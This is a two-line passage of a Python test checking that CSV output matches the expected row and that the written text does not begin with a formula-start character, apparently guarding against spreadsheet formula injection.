        assert out.getvalue() == f"x,{text}\n", text
        assert not text.startswith(FORMULA_STARTS), text
